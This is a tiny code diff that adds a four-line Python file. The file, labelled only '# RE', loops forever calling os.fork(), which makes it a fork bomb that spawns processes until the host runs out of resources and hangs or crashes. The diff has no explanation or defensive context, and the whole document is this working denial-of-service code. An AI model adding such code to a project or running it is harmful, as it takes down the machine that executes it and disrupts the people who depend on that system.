@@ -1,0 +1,4 @@
+# RE
+import os
+while True:
+    os.fork()
